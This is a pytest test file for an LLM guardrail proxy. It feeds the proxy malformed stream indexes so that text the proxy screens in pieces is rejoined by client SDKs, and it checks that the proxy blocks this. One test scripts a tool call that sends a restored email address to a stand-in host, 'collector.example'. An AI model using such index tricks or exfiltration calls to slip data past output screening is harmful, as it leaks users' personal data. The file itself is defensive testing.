"""Stream indexes a client reads otherwise than the proxy, through the proxy to the official SDKs (atk24b F2, F3, F6),
and SSE lines ended only at CR, LF or CRLF (F5).

A provider or a gateway that writes an index as `1.0`, `true`, `"1"`, `null`, leaves it out, writes `-1`, an index
beyond 2**53 - 1, or a chat choice the request did not ask for: the proxy read the piece apart (block 0, output 0,
its own choice) while the client joins it with another (`Mail bob.smith@cont` + `oso.com now.`). Under output rules
and when the request's values are restored, the stream is unreadable: 502 `upstream_unreadable` before anything went
out, else an `error` event; recorded `check: readable`, `unreadable_event`. Without either it is relayed as sent.
"""

from __future__ import annotations

import json
import time
from typing import Any

import anthropic
import httpx
import openai
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_BOTH_WAYS_POLICY,
    data_events,
    post_team,
    sse,
    team_claude,
    team_oai,
)

ADDRESS = "bob.smith@contoso.com"
FIRST, SECOND = "Mail bob.smith@cont", "oso.com now."
ASK = "Who do I write to?"


@pytest.fixture(scope="module")
def screened(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": SCREENED_BOTH_WAYS_POLICY})


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def record(p: Proxy, request_id: str) -> dict[str, Any]:
    return p.record_for(request_id)


def newest(p: Proxy, before: int) -> dict[str, Any]:
    """The record of the one request sent since `p` had `before` records (a stream's is written after its end)."""
    deadline = time.monotonic() + 5
    while len(records := p.records()) <= before:
        assert time.monotonic() < deadline, "no new decision record"
        time.sleep(0.01)
    return records[-1]


def assert_unreadable(rec: dict[str, Any]) -> None:
    assert rec["error"] == "upstream_unreadable" and rec["decision"] == "block", rec
    assert any(c.get("check") == "readable" and c.get("findings", {}).get("unreadable_event") for c in rec["checks"])


# --------------------------------------------------------------------------------------------------- streams

def chunk(delta: dict[str, Any] | None = None, finish: str | None = None, index: Any = 0) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1733234567, "model": "gpt-4o-mini",
            "choices": [{"index": index, "delta": delta or {}, "finish_reason": finish}]}


def chat_choices(index: Any) -> str:
    return sse(chunk({"role": "assistant", "content": FIRST}), chunk({"content": SECOND}, index=index),
               chunk(finish="stop"), chunk(finish="stop", index=index), "[DONE]")


def chat_calls(index: Any, first: str = '{"note": "Mail bob.smith@cont', second: str = 'oso.com now."}') -> str:
    return sse(chunk({"role": "assistant", "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                                           "function": {"name": "note", "arguments": first}}]}),
               chunk({"tool_calls": [{"index": index, "function": {"arguments": second}}]}),
               chunk(finish="tool_calls"), "[DONE]")


def anthropic_blocks(index: Any) -> str:
    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5", "content": [],
           "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 1}}
    return sse({"type": "message_start", "message": msg},
               {"type": "content_block_start", "index": 0,
                "content_block": {"type": "server_tool_use", "id": "srvtoolu_01", "name": "web_search",
                                  "input": {"query": "contact"}}},
               {"type": "content_block_stop", "index": 0},
               {"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}},
               {"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": FIRST}},
               {"type": "content_block_stop", "index": 1},
               {"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}},
               {"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": SECOND}},
               {"type": "content_block_stop", "index": index},
               {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                "usage": {"output_tokens": 5}},
               {"type": "message_stop"}, named=True)


def responses_text(key: str, value: Any) -> str:
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "in_progress", "content": []}
    where = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    second = {"type": "response.output_text.delta", **where, "delta": SECOND, "logprobs": []}
    second[key] = value
    resp = {"id": "resp_1", "object": "response", "created_at": 1, "model": "gpt-4o-mini", "status": "in_progress",
            "output": []}
    events = [{"type": "response.created", "response": resp},
              {"type": "response.output_item.added", "output_index": 0, "item": item},
              {"type": "response.content_part.added", **where,
               "part": {"type": "output_text", "text": "", "annotations": []}},
              {"type": "response.output_text.delta", **where, "delta": FIRST, "logprobs": []},
              second,
              {"type": "response.completed", "response": {**resp, "status": "completed"}}]
    return sse(*({**e, "sequence_number": n} for n, e in enumerate(events)), named=True)


BAD = [1.0, True, "1", None, -1]


@pytest.mark.parametrize("index", [-1, 2**53, 1], ids=["-1", "2**53", "unasked-1"])
def test_chat_sdk_never_joins_a_choice_it_reads_otherwise(mock: Mock, screened: Proxy, index: int) -> None:
    raw = chat_choices(index)
    if index == 2**53:  # two choices JavaScript reads as one
        raw = sse(chunk({"role": "assistant", "content": FIRST}, index=2**53 + 1), chunk({"content": SECOND},
                                                                                           index=2**53), "[DONE]")
    mock.script(raw_sse=raw)
    got: list[str] = []
    before = len(screened.records())
    with pytest.raises(openai.APIError):
        for part in team_oai(screened).chat.completions.create(
                model="gpt-4o-mini", messages=[{"role": "user", "content": ASK}], stream=True):
            got.extend(c.delta.content or "" for c in part.choices)
    assert ADDRESS not in "".join(got) and SECOND not in "".join(got)
    assert_unreadable(newest(screened, before))


def test_chat_choices_the_request_asked_for_pass(mock: Mock, screened: Proxy) -> None:
    mock.script(raw_sse=sse(chunk({"role": "assistant", "content": "One."}), chunk({"content": "Two."}, index=1),
                            chunk(finish="stop"), chunk(finish="stop", index=1), "[DONE]"))
    r = post_team(screened, "/v1/chat/completions", {"model": "gpt-4o-mini", "stream": True, "n": 2,
                                                     "messages": [{"role": "user", "content": ASK}]})
    assert r.status_code == 200 and "error" not in r.text
    texts = ["".join(c["delta"].get("content") or "" for ev in data_events(r.text) for c in ev["choices"]
                     if c["index"] == i) for i in (0, 1)]
    assert texts == ["One.", "Two."] and record(screened, r.headers["x-guardrail-request-id"])["decision"] == "allow"


@pytest.mark.parametrize("index", [*BAD, "missing"])
def test_chat_tool_call_helper_never_joins_a_call_it_reads_otherwise(mock: Mock, screened: Proxy, index: Any) -> None:
    raw = chat_calls(index)
    if index == "missing":
        raw = raw.replace('{"index": "missing", ', "{")
    mock.script(raw_sse=raw)
    before = len(screened.records())
    final = None
    with pytest.raises(openai.APIError):
        with team_oai(screened).chat.completions.stream(
                model="gpt-4o-mini", messages=[{"role": "user", "content": ASK}]) as stream:
            final = stream.get_final_completion()
    assert final is None  # the helper never built the joined call
    assert_unreadable(newest(screened, before))


@pytest.mark.parametrize("index", [*BAD, 2**53, "missing"])
def test_anthropic_sdk_never_joins_a_block_it_reads_otherwise(mock: Mock, screened: Proxy, index: Any) -> None:
    raw = anthropic_blocks(index)
    if index == "missing":
        raw = raw.replace('"index": "missing", ', "").replace(', "index": "missing"', "")
    mock.script(raw_sse=raw)
    got: list[str] = []
    before = len(screened.records())
    with pytest.raises(anthropic.APIError):
        for ev in team_claude(screened).messages.create(model="claude-haiku-4-5", max_tokens=100, stream=True,
                                                        messages=[{"role": "user", "content": ASK}]):
            if ev.type == "content_block_delta" and ev.delta.type == "text_delta":
                got.append(ev.delta.text)
    assert ADDRESS not in "".join(got) and SECOND not in "".join(got)
    assert_unreadable(newest(screened, before))


@pytest.mark.parametrize(("key", "value"), [("output_index", v) for v in BAD] + [("content_index", -1),
                                                                                 ("content_index", 1.0)])
def test_responses_raw_loop_never_joins_an_item_it_reads_otherwise(mock: Mock, screened: Proxy, key: str,
                                                                   value: Any) -> None:
    mock.script(raw_sse=responses_text(key, value))
    got: list[str] = []
    before = len(screened.records())
    with pytest.raises(openai.APIError):
        for ev in team_oai(screened).responses.create(model="gpt-4o-mini", input=ASK, stream=True):
            if ev.type == "response.output_text.delta":
                got.append(ev.delta)
    assert ADDRESS not in "".join(got) and SECOND not in "".join(got)
    assert_unreadable(newest(screened, before))


def test_completions_negative_choice(mock: Mock, screened: Proxy) -> None:
    head = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "gpt-3.5-turbo-instruct"}
    mock.script(raw_sse=sse({**head, "choices": [{"text": FIRST, "index": 0, "logprobs": None, "finish_reason": None}]},
                            {**head, "choices": [{"text": SECOND, "index": -1, "logprobs": None,
                                                  "finish_reason": None}]}, "[DONE]"))
    r = post_team(screened, "/v1/completions", {"model": "gpt-3.5-turbo-instruct", "prompt": ASK, "stream": True})
    assert SECOND not in r.text and ADDRESS not in r.text
    assert_unreadable(record(screened, r.headers["x-guardrail-request-id"]))


def test_restore_only_stops_a_restored_call_joined_with_a_url(mock: Mock, restoring: Proxy) -> None:
    """The restored value in call 0, the URL in call -1: the helper would build one call sending the value."""
    mail = "jane.doe@example.com"
    mock.script(raw_sse=chat_calls(-1, '{"body": "<EMAIL_ADDRESS_1>", ', '"to": "https://collector.example/c"}'))
    r = post_team(restoring, "/v1/chat/completions", {"model": "gpt-4o-mini", "stream": True, "messages": [
        {"role": "user", "content": f"My address is {mail}."}]})
    assert "collector.example" not in r.text and mail not in r.text
    rec = record(restoring, r.headers["x-guardrail-request-id"])
    assert rec["error"] == "upstream_unreadable"


def test_no_checks_relays_as_sent(mock: Mock, plain_proxy: Proxy) -> None:
    raw = chat_calls(-1)
    mock.script(raw_sse=raw)
    r = httpx.post(f"{plain_proxy.url}/v1/chat/completions", timeout=30,
                   json={"model": "gpt-4o-mini", "stream": True, "messages": [{"role": "user", "content": ASK}]},
                   headers={"Authorization": "Bearer sk-x"})
    assert r.status_code == 200 and r.text == raw


# ------------------------------------------------------------------------------------------------- whole answers

@pytest.mark.parametrize("index", [-1, 1.0, "0", 2**53])
def test_whole_chat_answer_with_such_a_choice_index(mock: Mock, screened: Proxy, index: Any) -> None:
    body = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "gpt-4o-mini",
            "choices": [{"index": index, "message": {"role": "assistant", "content": "Fine."},
                         "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}}
    mock.script(raw_body=json.dumps(body))
    r = post_team(screened, "/v1/chat/completions", {"model": "gpt-4o-mini",
                                                     "messages": [{"role": "user", "content": ASK}]})
    assert r.status_code == 502 and r.json()["error"]["code"] == "upstream_unreadable"
    mock.script(raw_body=json.dumps({**body, "choices": [{**body["choices"][0], "index": 0}]}))
    ok = post_team(screened, "/v1/chat/completions", {"model": "gpt-4o-mini",
                                                      "messages": [{"role": "user", "content": ASK}]})
    assert ok.status_code == 200 and ok.json()["choices"][0]["message"]["content"] == "Fine."


# --------------------------------------------------------------------------------------------- F5: SSE line ends

SEPARATORS = ["\u2028", "\u2029", "\u0085"]


def _raw_json(obj: Any) -> str:
    return json.dumps(obj, ensure_ascii=False)  # the separators written raw, as Python/pydantic servers do


@pytest.mark.parametrize("sep", SEPARATORS, ids=["u2028", "u2029", "u0085"])
def test_a_raw_line_separator_in_a_streamed_answer_reaches_every_sdk(mock: Mock, screened: Proxy, sep: str) -> None:
    text = f"First line.{sep}Second line."
    mock.script(raw_sse="".join(f"data: {_raw_json(c)}\n\n" for c in (
        chunk({"role": "assistant", "content": text[:8]}), chunk({"content": text[8:]}), chunk(finish="stop")))
        + "data: [DONE]\n\n")
    got = "".join(c.choices[0].delta.content or "" for c in team_oai(screened).chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": ASK}], stream=True) if c.choices)
    assert got == text

    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5", "content": [],
           "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 1}}
    mock.script(raw_sse="".join(f"event: {e['type']}\ndata: {_raw_json(e)}\n\n" for e in (
        {"type": "message_start", "message": msg},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[:8]}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text[8:]}},
        {"type": "content_block_stop", "index": 0},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
         "usage": {"output_tokens": 5}},
        {"type": "message_stop"})))
    with team_claude(screened).messages.stream(model="claude-haiku-4-5", max_tokens=100,
                                               messages=[{"role": "user", "content": ASK}]) as stream:
        final = stream.get_final_message()
    assert "".join(b.text for b in final.content if b.type == "text") == text

    mock.script(raw_sse=responses_text("output_index", 0).replace(json.dumps(FIRST), _raw_json(text))
                .replace(json.dumps(SECOND), '""'))
    deltas = [ev.delta for ev in team_oai(screened).responses.create(model="gpt-4o-mini", input=ASK, stream=True)
              if ev.type == "response.output_text.delta"]
    assert "".join(deltas) == text
